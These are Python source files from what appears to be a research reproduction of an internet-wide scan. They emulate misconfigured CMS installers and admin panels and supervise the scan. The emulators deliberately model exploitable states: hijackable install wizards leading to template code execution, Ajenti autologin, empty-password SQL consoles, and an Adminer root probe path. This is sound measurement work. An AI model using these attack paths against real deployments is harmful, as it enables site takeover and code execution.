                   _r(2021.0, "3.0"), _r(2021.3, "3.0.14")],
    "jupyter-notebook": [
        _r(2014.3, "3.0"),            # IPython-notebook era
        _r(2015.6, "4.0"), _r(2016.0, "4.1"), _r(2016.5, "4.2"),
        _r(2016.95, "4.3"),           # token auth on by default from here
        _r(2017.1, "4.4"), _r(2017.3, "5.0"), _r(2017.7, "5.1"),
        _r(2018.0, "5.4"), _r(2018.5, "5.6"), _r(2019.0, "5.7.4"),
        _r(2019.5, "6.0"), _r(2020.1, "6.0.3"), _r(2020.5, "6.1"),
        _r(2021.0, "6.2"), _r(2021.3, "6.3"),
    ],
    "zeppelin": [_r(2015.9, "0.5"), _r(2016.7, "0.6"), _r(2017.3, "0.7"),
                 _r(2018.0, "0.8"), _r(2019.8, "0.8.2"), _r(2020.7, "0.9"),
                 _r(2021.2, "0.9.1")],
    "polynote": [_r(2019.8, "0.2"), _r(2020.2, "0.3"), _r(2020.9, "0.3.12"),
                 _r(2021.2, "0.4.0")],
    "spark-notebook": [_r(2015.5, "0.6"), _r(2017.0, "0.7"), _r(2019.1, "0.9")],
    # ----- Control Panels ------------------------------------------------------
    "ajenti": [_r(2014.4, "1.2"), _r(2016.0, "2.0"), _r(2017.5, "2.1.20"),
               _r(2019.0, "2.1.32"), _r(2020.5, "2.1.36"), _r(2021.2, "2.1.37")],
    "phpmyadmin": [_r(2014.4, "4.2"), _r(2015.8, "4.5"), _r(2016.9, "4.6.5"),
                   _r(2017.6, "4.7"), _r(2018.4, "4.8"), _r(2019.4, "4.9"),
                   _r(2020.2, "5.0"), _r(2020.8, "5.0.4"), _r(2021.1, "5.1")],
    "adminer": [_r(2014.5, "4.1"), _r(2016.0, "4.2.4"), _r(2017.0, "4.3"),
                _r(2018.0, "4.6"), _r(2018.45, "4.6.2"),
                _r(2018.5, "4.6.3"),  # empty password rejected from here
                _r(2019.0, "4.7"), _r(2020.0, "4.7.6"), _r(2021.0, "4.8"),
                _r(2021.3, "4.8.1")],
    "vestacp": [_r(2014.8, "0.9.8"), _r(2017.5, "0.9.8-18"), _r(2019.2, "0.9.8-24"),
                _r(2020.5, "0.9.8-26")],
    "omnidb": [_r(2017.8, "2.0"), _r(2018.8, "2.11"), _r(2019.8, "2.17"),
               _r(2020.3, "3.0")],
}


class ReleaseDatabase:
    """Query interface over the curated release histories."""

    def __init__(self, histories: dict[str, list[Release]] | None = None) -> None:
        self._histories = {
            slug: sorted(releases)
            for slug, releases in (histories or _HISTORIES).items()
        }
        for slug, releases in self._histories.items():
            if not releases:
                raise ConfigError(f"empty release history for {slug}")

    def slugs(self) -> list[str]:
        return sorted(self._histories)

    def releases(self, slug: str) -> list[Release]:
        try:
            return list(self._histories[slug])
        except KeyError:
            raise ConfigError(f"unknown application slug: {slug!r}") from None

    def latest(self, slug: str, as_of: float = SCAN_DATE) -> Release:
        """Most recent release published on or before ``as_of``."""
        candidates = [r for r in self.releases(slug) if r.date <= as_of]
        if not candidates:
            raise ConfigError(f"{slug} has no release before {as_of}")
        return candidates[-1]

    def release_date(self, slug: str, version: str) -> float:
        for release in self.releases(slug):
            if release.version == version:
                return release.date
        raise ConfigError(f"unknown version {version!r} for {slug}")

    def is_known_version(self, slug: str, version: str) -> bool:
        return any(r.version == version for r in self.releases(slug))

    def sample(
        self,
        rng: random.Random,
        slug: str,
        freshness: float,
        as_of: float = SCAN_DATE,
    ) -> Release:
        """Draw an installed version with an age bias.

        ``freshness`` in [0, 1]: 1.0 means deployments track the newest
        release closely (WordPress auto-updates), 0.0 means installs are
        uniform over the full history (abandoned control panels).  The draw
        uses an exponential recency weighting so the population exhibits
        the long tail of outdated software the paper measures.
        """
        if not 0.0 <= freshness <= 1.0:
            raise ConfigError(f"freshness out of range: {freshness}")
        candidates = [r for r in self.releases(slug) if r.date <= as_of]
        if not candidates:
            raise ConfigError(f"{slug} has no release before {as_of}")
        # Weight each release by exp(-age * rate): higher freshness -> faster
        # decay -> newer versions dominate.
        rate = 0.15 + 5.0 * freshness
        weights = [pow(2.718281828, -(as_of - r.date) * rate) for r in candidates]
        total = sum(weights)
        point = rng.random() * total
        cumulative = 0.0
        for release, weight in zip(candidates, weights):
            cumulative += weight
            if point < cumulative:
                return release
        return candidates[-1]

    def next_release_after(self, slug: str, date: float) -> Release | None:
        """First release strictly after ``date`` (used by the update model)."""
        releases = self.releases(slug)
        dates = [r.date for r in releases]
        index = bisect.bisect_right(dates, date)
        return releases[index] if index < len(releases) else None


#: The default, shared release database instance.
RELEASE_DB = ReleaseDatabase()
