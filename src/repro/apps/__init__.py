"""Behavioural emulators of the 25 investigated applications.

Each emulator serves the real endpoints and body markers the paper's
detection pipeline relies on (Appendix A, Table 10), models per-version
security defaults (e.g. Jenkins < 2.0 was insecure by default), and exposes
the misconfiguration knobs the paper discusses (empty Jupyter password,
Docker API bound to 0.0.0.0, Consul script checks, ...).

The catalog (:mod:`repro.apps.catalog`) is the machine-readable form of the
paper's Table 1.
"""

from repro.apps.base import (
    AppCategory,
    VulnKind,
    WebApplication,
    AppInstance,
    CommandExecution,
)
from repro.apps.catalog import (
    APP_CATALOG,
    AppSpec,
    DefaultPosture,
    all_apps,
    in_scope_apps,
    app_by_slug,
    create_instance,
)
from repro.apps.versions import RELEASE_DB, ReleaseDatabase, Release

__all__ = [
    "AppCategory",
    "VulnKind",
    "WebApplication",
    "AppInstance",
    "CommandExecution",
    "APP_CATALOG",
    "AppSpec",
    "DefaultPosture",
    "all_apps",
    "in_scope_apps",
    "app_by_slug",
    "create_instance",
    "RELEASE_DB",
    "ReleaseDatabase",
    "Release",
]
