"""Content-management-system emulators: Ghost, WordPress, Grav, Joomla,
Drupal.

The CMS MAV is the *installation hijack*: the admin password is set on a
publicly reachable page, so whoever reaches an unfinished installation
first owns the site, and all four in-scope CMSes then allow PHP/template
editing, i.e. code execution.  An instance is therefore vulnerable iff
``installed`` is false.  Ghost is out of scope (no code editing).
"""

from __future__ import annotations

from repro.apps.base import (
    AppCategory,
    VulnKind,
    WebApplication,
    html_page,
    route,
    versioned_asset,
)
from repro.net.http import HttpRequest, HttpResponse


class _InstallableCms(WebApplication):
    """Shared behaviour for CMSes with a hijackable installation."""

    vuln_kind = VulnKind.INSTALL

    def validate_config(self) -> None:
        self.config.setdefault("installed", True)

    def is_vulnerable(self) -> bool:
        return not self.cfg("installed")

    def secure(self) -> None:
        """Completing the installation is what 'fixes' a CMS MAV."""
        self.config["installed"] = True

    def complete_installation(self, admin_password: str) -> None:
        """State change performed by whoever reaches the wizard first."""
        self.config["installed"] = True
        self.config["admin_password"] = admin_password

    def authorized(self, request: HttpRequest) -> bool:
        """Check the admin credential set during installation.

        The hijacker knows the password (they chose it); the legitimate
        owner's password on a pre-installed instance is unknown to an
        attacker, so post-install admin actions fail for them.
        """
        expected = self.cfg("admin_password")
        return expected is not None and request.form.get("auth") == expected


class WordPress(_InstallableCms):
    """WordPress.  /wp-admin/install.php is world-reachable until finished."""

    name = "WordPress"
    slug = "wordpress"
    category = AppCategory.CMS
    default_ports = (80, 443)
    discloses_version = True  # meta generator tag

    def static_files(self) -> dict[str, str]:
        return {
            "/wp-includes/js/wp-embed.min.js": versioned_asset(
                self.slug, "wp-embed.min.js", self.version
            ),
            "/wp-includes/css/dist/block-library/style.min.css": versioned_asset(
                self.slug, "block-library.css", self.version
            ),
            "/wp-admin/js/common.min.js": versioned_asset(self.slug, "common.min.js", self.version),
        }

    def landing_page(self) -> str:
        return html_page(
            "Just another WordPress site",
            f'<meta name="generator" content="WordPress {self.version}">'
            '<link rel="https://api.w.org/" href="/wp-json/">'
            '<div class="wp-site-blocks">Hello world!</div>',
            assets=["/wp-includes/js/wp-embed.min.js"],
        )

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        if self.is_vulnerable():
            return HttpResponse.redirect("/wp-admin/install.php")
        return HttpResponse.html(self.landing_page())

    @route("GET", "/wp-login.php")
    def login(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(
            html_page("Log In", '<form name="loginform" id="loginform"></form>')
        )

    @route("GET", "/wp-admin/install.php")
    def install(self, request: HttpRequest) -> HttpResponse:
        # Table 10: MAV iff `form#setup` with `input#pass1` is served here.
        if not self.is_vulnerable():
            return HttpResponse.html(
                html_page("WordPress", "<p>WordPress is already installed.</p>")
            )
        body = html_page(
            "WordPress &rsaquo; Installation",
            f'<meta name="generator" content="WordPress {self.version}">'
            '<h1>Welcome to WordPress</h1>'
            '<form id="setup" method="post" action="/wp-admin/install.php?step=2">'
            '<input name="admin_password" id="pass1" type="password">'
            "</form>",
        )
        return HttpResponse.html(body)

    @route("POST", "/wp-admin/install.php")
    def install_submit(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.forbidden("already installed")
        self.complete_installation(request.form.get("admin_password", ""))
        return HttpResponse.html(html_page("Success!", "WordPress has been installed."))

    @route("POST", "/wp-admin/theme-editor.php")
    def theme_editor(self, request: HttpRequest) -> HttpResponse:
        """Editing a PHP template is the code-execution step after hijack."""
        if not self.cfg("installed"):
            return HttpResponse.redirect("/wp-admin/install.php")
        if not self.authorized(request):
            return HttpResponse.redirect("/wp-login.php")
        command = request.form.get("newcontent", request.body)
        self.record_execution(command, via=request.path_only, mechanism="php-template")
        return HttpResponse.html("File edited successfully.")


class Grav(_InstallableCms):
    """Grav.  The admin plugin prompts to 'Create User' until one exists."""

    name = "Grav"
    slug = "grav"
    category = AppCategory.CMS
    default_ports = (80, 443)
    discloses_version = False

    def static_files(self) -> dict[str, str]:
        return {
            "/system/assets/jquery/jquery-3.x.min.js": versioned_asset(
                self.slug, "jquery.js", self.version
            ),
            "/user/plugins/admin/themes/grav/css/admin.css": versioned_asset(
                self.slug, "admin.css", self.version
            ),
        }

    def landing_page(self) -> str:
        return html_page(
            "Grav",
            '<div class="grav-site">Grav was <b>successfully installed</b></div>',
            assets=["/system/assets/jquery/jquery-3.x.min.js"],
        )

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        if self.is_vulnerable():
            return HttpResponse.html(
                html_page(
                    "Grav Admin",
                    "<p>The Admin plugin has been installed.</p>"
                    '<a href="/admin">Create User</a>',
                )
            )
        return HttpResponse.html(self.landing_page())

    @route("GET", "/admin")
    def admin(self, request: HttpRequest) -> HttpResponse:
        if self.is_vulnerable():
            return HttpResponse.html(
                html_page(
                    "Grav Admin",
                    "<p>No user accounts found, please <b>create one</b></p>"
                    '<form id="admin-user-form"></form>',
                    assets=["/user/plugins/admin/themes/grav/css/admin.css"],
                )
            )
        return HttpResponse.html(
            html_page(
                "Grav Admin Login",
                '<form id="login-form"></form>',
                assets=["/user/plugins/admin/themes/grav/css/admin.css"],
            )
        )

    @route("POST", "/admin")
    def create_user(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.unauthorized("Grav")
        self.complete_installation(request.form.get("password", ""))
        return HttpResponse.html("User created")

    @route("POST", "/admin/tools")
    def twig_editor(self, request: HttpRequest) -> HttpResponse:
        if self.is_vulnerable():
            return HttpResponse.redirect("/admin")
        if not self.authorized(request):
            return HttpResponse.unauthorized("Grav")
        command = request.form.get("content", request.body)
        self.record_execution(command, via=request.path_only, mechanism="twig-template")
        return HttpResponse.html("saved")


class Joomla(_InstallableCms):
    """Joomla.  Web installer; since 3.7.4 remote-DB installs need proof of
    file ownership, closing the remote hijack for that configuration."""

    name = "Joomla"
    slug = "joomla"
    category = AppCategory.CMS
    default_ports = (80, 443)
    discloses_version = False

    def static_files(self) -> dict[str, str]:
        return {
            "/media/jui/js/bootstrap.min.js": versioned_asset(self.slug, "bootstrap.js", self.version),
            "/media/system/js/core.js": versioned_asset(self.slug, "core.js", self.version),
        }

    def landing_page(self) -> str:
        return html_page(
            "Home",
            '<meta name="generator" content="Joomla! - Open Source Content Management">'
            '<div class="joomla-site">Welcome</div>',
            assets=["/media/system/js/core.js"],
        )

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        if self.is_vulnerable():
            return HttpResponse.redirect("/installation/index.php")
        return HttpResponse.html(self.landing_page())

    @route("GET", "/installation/index.php")
    def installer(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.not_found()
        return HttpResponse.html(
            html_page(
                "Joomla! Web Installer",
                "<h3>Enter the name of your Joomla! site</h3>"
                '<form id="adminForm"><input name="admin_password"></form>',
                assets=["/media/jui/js/bootstrap.min.js"],
            )
        )

    @route("POST", "/installation/index.php")
    def installer_submit(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.not_found()
        remote_db = request.form.get("db_host", "localhost") != "localhost"
        if remote_db and not self.version_before("3.7.4"):
            # The countermeasure: prove ownership by deleting a random file.
            return HttpResponse.forbidden(
                "Please delete the verification file from the server to continue."
            )
        self.complete_installation(request.form.get("admin_password", ""))
        return HttpResponse.html("Congratulations! Joomla! is now installed.")

    @route("POST", "/administrator/index.php")
    def template_edit(self, request: HttpRequest) -> HttpResponse:
        if self.is_vulnerable():
            return HttpResponse.redirect("/installation/index.php")
        if not self.authorized(request):
            return HttpResponse.unauthorized("Joomla")
        command = request.form.get("jform[source]", request.body)
        self.record_execution(command, via=request.path_only, mechanism="php-template")
        return HttpResponse.html("Template saved")


class Drupal(_InstallableCms):
    """Drupal.  /core/install.php walks through DB setup publicly."""

    name = "Drupal"
    slug = "drupal"
    category = AppCategory.CMS
    default_ports = (80, 443)
    discloses_version = False

    def static_files(self) -> dict[str, str]:
        return {
            "/core/misc/drupal.js": versioned_asset(self.slug, "drupal.js", self.version),
            "/core/themes/stable/css/system/components/ajax-progress.module.css": versioned_asset(
                self.slug, "ajax-progress.css", self.version
            ),
        }

    def landing_page(self) -> str:
        return html_page(
            "Welcome | Drupal",
            '<meta name="Generator" content="Drupal (https://www.drupal.org)">'
            '<div data-drupal-selector="main">No front page content.</div>',
            assets=["/core/misc/drupal.js"],
        )

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        if self.is_vulnerable():
            return HttpResponse.redirect("/core/install.php")
        return HttpResponse.html(self.landing_page())

    @route("GET", "/core/install.php")
    def installer(self, request: HttpRequest) -> HttpResponse:
        # Table 10 strips whitespace before matching because Drupal's
        # markup spacing differs across versions; we vary it too.
        if not self.is_vulnerable():
            return HttpResponse.html(
                html_page("Drupal", "Drupal already installed.")
            )
        spacing = " " if self.version_before("9.0") else ""
        body = html_page(
            "Choose language | Drupal",
            "<ol><li>Choose language</li>"
            f'<li{spacing} class="is-active">Set up{spacing} database</li>'
            "<li>Install site</li></ol>"
            '<form class="install-form"><input name="db_name"></form>',
        )
        return HttpResponse.html(body)

    @route("POST", "/core/install.php")
    def installer_submit(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.forbidden("already installed")
        self.complete_installation(request.form.get("account[pass]", ""))
        return HttpResponse.html("Congratulations, you installed Drupal!")

    @route("POST", "/admin/appearance/settings")
    def template_edit(self, request: HttpRequest) -> HttpResponse:
        if self.is_vulnerable():
            return HttpResponse.redirect("/core/install.php")
        if not self.authorized(request):
            return HttpResponse.unauthorized("Drupal")
        command = request.form.get("twig", request.body)
        self.record_execution(command, via=request.path_only, mechanism="twig-template")
        return HttpResponse.html("saved")


class Ghost(WebApplication):
    """Ghost.  Admin panel exists but no code editing: out of scope."""

    name = "Ghost"
    slug = "ghost"
    category = AppCategory.CMS
    vuln_kind = VulnKind.NONE
    default_ports = (80, 443)
    discloses_version = False

    def is_vulnerable(self) -> bool:
        return False

    def secure(self) -> None:
        pass

    def static_files(self) -> dict[str, str]:
        return {
            "/assets/built/casper.js": versioned_asset(self.slug, "casper.js", self.version)
        }

    def landing_page(self) -> str:
        return html_page(
            "Ghost",
            '<meta name="generator" content="Ghost">'
            '<div class="gh-site">Thoughts, stories and ideas.</div>',
            assets=["/assets/built/casper.js"],
        )

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(self.landing_page())

    @route("GET", "/ghost/")
    def admin(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(html_page("Ghost Admin", '<form id="login"></form>'))
