"""Control-panel emulators: Ajenti, phpMyAdmin, Adminer, VestaCP, OmniDB.

* **Ajenti** — requires OS credentials by default; the documented
  ``--autologin`` flag skips authentication entirely.
* **phpMyAdmin** — requires SQL credentials; only vulnerable when the
  operator enables ``AllowNoPassword`` *and* the SQL root password is empty.
* **Adminer** — accepted empty passwords until 4.6.3 (mid 2018).
* VestaCP, OmniDB — generate credentials during installation with no knob
  to skip; out of scope.
"""

from __future__ import annotations

from repro.apps.base import (
    AppCategory,
    VulnKind,
    WebApplication,
    html_page,
    route,
    versioned_asset,
)
from repro.net.http import HttpRequest, HttpResponse


class Ajenti(WebApplication):
    """Ajenti admin panel with its documented ``--autologin`` foot-gun."""

    name = "Ajenti"
    slug = "ajenti"
    category = AppCategory.CP
    vuln_kind = VulnKind.SYSCMD
    default_ports = (8000,)
    discloses_version = False

    def validate_config(self) -> None:
        self.config.setdefault("autologin", False)  # secure by default

    def is_vulnerable(self) -> bool:
        return bool(self.cfg("autologin"))

    def secure(self) -> None:
        self.config["autologin"] = False

    def landing_page(self) -> str:
        return html_page(
            "Ajenti",
            '<div ng-app="ajenti.core">Ajenti server admin panel</div>',
            assets=["/resources/all.css"],
        )

    def static_files(self) -> dict[str, str]:
        return {
            "/resources/all.css": versioned_asset(self.slug, "all.css", self.version),
            "/resources/all.js": versioned_asset(self.slug, "all.js", self.version),
        }

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.redirect("/view/")

    @route("GET", "/view/")
    def view(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            # The real login form sits inside the same Angular shell as
            # the dashboard: app markers are visible pre-authentication.
            return HttpResponse.html(
                html_page(
                    "Login - Ajenti",
                    '<div ng-app="ajenti.core">Ajenti server admin panel</div>'
                    '<form id="login"><input name="password"></form>',
                    assets=["/resources/all.css"],
                )
            )
        body = html_page(
            "Ajenti",
            '<div ng-app="ajenti.core">Ajenti server admin panel</div>'
            "<script>document.title = customization.plugins.core.title || 'Ajenti';"
            "var ajentiPlatformUnmapped = 'debian';</script>"
            '<div class="dashboard">Terminal | File Manager | Services</div>',
            assets=["/resources/all.css"],
        )
        return HttpResponse.html(body)

    @route("POST", "/api/terminal")
    def terminal(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.unauthorized("Ajenti")
        command = request.form.get("input", request.body)
        self.record_execution(command, via=request.path_only, mechanism="terminal")
        return HttpResponse.json('{"output": ""}')


class PhpMyAdmin(WebApplication):
    """phpMyAdmin.  Vulnerable only with ``AllowNoPassword`` + empty root
    password, in which case the server console is open to the world."""

    name = "phpMyAdmin"
    slug = "phpmyadmin"
    category = AppCategory.CP
    vuln_kind = VulnKind.SQL
    default_ports = (80, 443)
    discloses_version = True  # version shown on the login page

    def validate_config(self) -> None:
        self.config.setdefault("allow_no_password", False)
        self.config.setdefault("root_password_empty", False)

    def is_vulnerable(self) -> bool:
        return bool(self.cfg("allow_no_password") and self.cfg("root_password_empty"))

    def secure(self) -> None:
        self.config["allow_no_password"] = False

    def static_files(self) -> dict[str, str]:
        return {
            "/themes/pmahomme/css/theme.css": versioned_asset(self.slug, "theme.css", self.version),
            "/js/vendor/jquery/jquery.min.js": versioned_asset(self.slug, "jquery.js", self.version),
        }

    def _login_page(self) -> str:
        return html_page(
            "phpMyAdmin",
            f'<div class="pma-logo">phpMyAdmin {self.version}</div>'
            '<form method="post" action="index.php" name="login_form">'
            '<input name="pma_username"><input name="pma_password" type="password">'
            "</form>",
            assets=["/themes/pmahomme/css/theme.css"],
        )

    def _server_page(self) -> str:
        return html_page(
            "localhost / phpMyAdmin",
            f'<span class="version">phpMyAdmin {self.version}</span>'
            "<h2>General settings</h2>"
            "<label>Server connection collation</label>"
            '<select name="collation_connection"><option>utf8mb4_unicode_ci</option></select>'
            '<a href="./doc/html/index.html">phpMyAdmin documentation</a>',
            assets=["/themes/pmahomme/css/theme.css"],
        )

    def landing_page(self) -> str:
        return self._server_page() if self.is_vulnerable() else self._login_page()

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(self.landing_page())

    @route("GET", "/phpmyadmin")
    def aliased_index(self, request: HttpRequest) -> HttpResponse:
        # Many deployments serve PMA under /phpmyadmin; Table 10 probes both.
        return HttpResponse.html(self.landing_page())

    @route("POST", "/import.php")
    def run_sql(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.unauthorized("phpMyAdmin")
        statement = request.form.get("sql_query", request.body)
        self.record_execution(statement, via=request.path_only, mechanism="sql")
        return HttpResponse.html("Your SQL query has been executed successfully.")


class Adminer(WebApplication):
    """Adminer.  Empty-password logins rejected since 4.6.3 (2018)."""

    name = "Adminer"
    slug = "adminer"
    category = AppCategory.CP
    vuln_kind = VulnKind.SQL
    default_ports = (80, 443)
    discloses_version = True  # version shown on the login page

    def validate_config(self) -> None:
        self.config.setdefault("root_password_empty", False)

    def is_vulnerable(self) -> bool:
        return bool(self.cfg("root_password_empty")) and self.version_before("4.6.3")

    def secure(self) -> None:
        self.config["root_password_empty"] = False

    def static_files(self) -> dict[str, str]:
        return {
            "/adminer.css": versioned_asset(self.slug, "adminer.css", self.version)
        }

    def landing_page(self) -> str:
        return html_page(
            "Login - Adminer",
            f'<div id="menu"><h1>Adminer <span class="version">{self.version}</span></h1></div>'
            '<form method="post"><input name="auth[username]"></form>',
            assets=["/adminer.css"],
        )

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(self.landing_page())

    @route("GET", "/adminer.php")
    def adminer_php(self, request: HttpRequest) -> HttpResponse:
        # The paper probes /adminer.php?username=root: with an empty root
        # password on a pre-4.6.3 Adminer the GET lands in a session.
        if request.query.get("username") == "root" and self.is_vulnerable():
            body = html_page(
                "Server - Adminer",
                f"<p>MySQL 5.7 through PHP extension mysqli</p>"
                f"<p>Logged as: <b>root@localhost</b></p>"
                f'<span class="version">{self.version}</span>',
                assets=["/adminer.css"],
            )
            return HttpResponse.html(body)
        return HttpResponse.html(self.landing_page())

    @route("GET", "/adminer/adminer.php")
    def aliased_adminer_php(self, request: HttpRequest) -> HttpResponse:
        return self.adminer_php(request)

    def canned_paths(self) -> tuple[str, ...]:
        # The logged-in server page only appears behind the username probe.
        return super().canned_paths() + ("/adminer.php?username=root",)

    @route("POST", "/adminer.php")
    def run_sql(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.unauthorized("Adminer")
        statement = request.form.get("query", request.body)
        self.record_execution(statement, via=request.path_only, mechanism="sql")
        return HttpResponse.html("Query executed OK")


class _OutOfScopePanel(WebApplication):
    """Panels that always generate credentials during install."""

    category = AppCategory.CP
    vuln_kind = VulnKind.NONE

    def is_vulnerable(self) -> bool:
        return False

    def secure(self) -> None:
        pass

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(self.landing_page())


class VestaCP(_OutOfScopePanel):
    name = "VestaCP"
    slug = "vestacp"
    default_ports = (8083,)
    discloses_version = False

    def landing_page(self) -> str:
        return html_page("Vesta", '<div class="login"><form id="vstobjects"></form></div>')


class OmniDB(_OutOfScopePanel):
    name = "OmniDB"
    slug = "omnidb"
    default_ports = (8000,)
    discloses_version = False

    def landing_page(self) -> str:
        return html_page("OmniDB", '<div id="omnidb__main">OmniDB sign in</div>')
