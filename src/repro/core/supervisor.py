"""The supervised sweep runtime: deadlines, watchdogs, quarantine.

A sweep over the paper's ~3.5B addresses meets tarpits that hang
connections for an hour, middleboxes that answer every probe, and
services whose responses crash naive parsers.  Without supervision the
runtime has exactly two outcomes — "complete" or "crashed" — and one
pathological host can stall a shard forever.  This module adds the third
outcome real measurement infrastructure needs: **complete degraded**,
with an exact account of what was given up.

:class:`SweepSupervisor` wraps the sharded
:class:`~repro.core.parallel.ParallelScanEngine` with an escalation
ladder, every rung deterministic:

1. **retry** — the existing :class:`~repro.core.retry.RetryExecutor`
   handles transient transport faults (unchanged, but poison responses
   now bypass it entirely);
2. **restart** — a shard that dies with an exception is re-executed from
   scratch, at most ``max_shard_restarts`` times; shard seeds make the
   re-run bit-identical up to the point of failure;
3. **quarantine** — targets that keep producing poison responses or
   stalling the clock are pulled from the sweep (host first, the whole
   /24 after enough bad hosts), refused by every stage from then on;
4. **degrade** — a shard that exhausts its restarts is abandoned and its
   frame accounted unreachable; a shard that exhausts its deadline stops
   probing and accounts the remainder deadline-skipped.  The sweep still
   returns a report — partial, but with a
   :class:`~repro.core.coverage.CoverageReport` that reconciles exactly
   against it.

Determinism is load-bearing: deadlines are charged to each shard's
:class:`~repro.util.clock.SimClock` (every shard starts at zero, so a
sweep-wide deadline is a per-shard clock budget — the "all shards run
concurrently" fiction that makes the verdicts independent of worker
count), quarantine verdicts depend only on the deterministic fault
stream, and restart/abandon telemetry is emitted at fold time in
canonical shard order.  A hostile sweep is byte-identical across worker
counts and kill-and-resume, like every other run in this repo.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.parallel import (
    DEFAULT_SHARD_BLOCKS,
    ParallelScanEngine,
    Shard,
    ShardRunner,
)
from repro.core.retry import RetryPolicy
from repro.core.serialize import report_to_dict
from repro.net.ipv4 import IPv4Address
from repro.net.transport import TransportStats
from repro.obs.telemetry import Telemetry
from repro.util.clock import SimClock
from repro.util.errors import ShardCrash

#: worker-side entry point of the supervised runtime, consumed by the
#: reprolint concurrency analyzer (see core/parallel.py for the base set)
WORKER_ENTRY_POINTS = (
    "repro.core.supervisor.SupervisedShardRunner.run",
)

#: the supervised runner and its config cross the pickle boundary whole
PICKLE_BOUNDARY_TYPES = (
    "repro.core.supervisor.SupervisedShardRunner",
    "repro.core.supervisor.SupervisorConfig",
)


@dataclass(frozen=True)
class SupervisorConfig:
    """How hard the supervisor pushes back against a hostile Internet.

    All durations are simulated seconds charged to shard-local clocks.
    The default config supervises without constraining: no deadlines,
    generous restart budget, quarantine only after repeated strikes.
    """

    #: sweep-wide clock budget; every shard conceptually starts at t=0,
    #: so this is charged per shard (None = no sweep deadline)
    sweep_deadline: float | None = None
    #: per-shard clock budget (None = no shard deadline)
    shard_deadline: float | None = None
    #: per-probe watchdog: latency faults charge at most this much before
    #: the exchange times out (None = wait out the full injected latency)
    probe_deadline: float | None = 60.0
    #: restarts granted to a crashing shard before it is abandoned
    max_shard_restarts: int = 2
    #: poison/stall strikes before a host is quarantined
    quarantine_threshold: int = 2
    #: quarantined hosts in one /24 before the whole block is quarantined
    quarantine_block_threshold: int = 8
    #: one operation charging this much clock flags the shard as stalled
    stall_window: float = 600.0
    #: emit a progress heartbeat event every N scanned addresses
    heartbeat_every: int = 1024
    #: deterministic crash injection: ``(shard_index, crashes)`` pairs —
    #: shard ``shard_index`` raises ShardCrash on its first ``crashes``
    #: attempts (the test hook for the restart rung of the ladder)
    crash_shards: tuple[tuple[int, int], ...] = ()

    def __post_init__(self) -> None:
        for name in ("sweep_deadline", "shard_deadline", "probe_deadline",
                     "stall_window"):
            value = getattr(self, name)
            if value is not None and value <= 0:
                raise ValueError(f"{name} must be positive, got {value}")
        if self.max_shard_restarts < 0:
            raise ValueError("max_shard_restarts must be non-negative")
        if self.quarantine_threshold < 1:
            raise ValueError("quarantine_threshold must be at least 1")
        if self.quarantine_block_threshold < 1:
            raise ValueError("quarantine_block_threshold must be at least 1")
        if self.heartbeat_every < 1:
            raise ValueError("heartbeat_every must be at least 1")
        for entry in self.crash_shards:
            index, crashes = entry
            if index < 0 or crashes < 1:
                raise ValueError(f"bad crash_shards entry: {entry}")

    @property
    def effective_deadline(self) -> float | None:
        """The shard clock budget: the tighter of the two deadlines."""
        deadlines = [
            d for d in (self.sweep_deadline, self.shard_deadline)
            if d is not None
        ]
        return min(deadlines) if deadlines else None


class Quarantine:
    """Strike ledger for poison targets.

    A host collects strikes (poison responses, stalls); at
    ``host_threshold`` strikes it is quarantined for the rest of the
    sweep — no half-open recovery, unlike a circuit breaker, because a
    poison body is a property of the target, not of the path to it.
    When ``block_threshold`` hosts of one /24 have been quarantined the
    whole block follows (the "middlebox answering for the whole prefix"
    case).
    """

    def __init__(self, host_threshold: int, block_threshold: int) -> None:
        self.host_threshold = host_threshold
        self.block_threshold = block_threshold
        #: quarantined host ip values
        self.hosts: set[int] = set()
        #: quarantined /24 network values
        self.blocks: set[int] = set()
        self._strikes: dict[int, int] = {}
        self._block_members: dict[int, set[int]] = {}

    def is_quarantined(self, value: int) -> bool:
        return value in self.hosts or (value & 0xFFFFFF00) in self.blocks

    def strike(self, value: int) -> tuple[bool, bool]:
        """Record one strike; returns (host_newly, block_newly) flags."""
        if self.is_quarantined(value):
            return False, False
        strikes = self._strikes.get(value, 0) + 1
        self._strikes[value] = strikes
        if strikes < self.host_threshold:
            return False, False
        del self._strikes[value]
        self.hosts.add(value)
        block = value & 0xFFFFFF00
        members = self._block_members.setdefault(block, set())
        members.add(value)
        if len(members) >= self.block_threshold and block not in self.blocks:
            self.blocks.add(block)
            return True, True
        return True, False


class ShardSupervision:
    """One shard's runtime guardian.

    Owned by a single shard attempt and wired (duck-typed) into that
    shard's retry executor and stage-I scanner.  Everything it decides —
    deadline stops, quarantine verdicts, stall flags — is a function of
    the shard-local clock and the deterministic fault stream, so
    supervision never breaks the byte-identity invariant.
    """

    def __init__(
        self,
        config: SupervisorConfig,
        clock: SimClock,
        planned: int,
        telemetry: Telemetry | None = None,
    ) -> None:
        self.config = config
        self.clock = clock
        #: addresses the shard was asked to sweep
        self.planned = planned
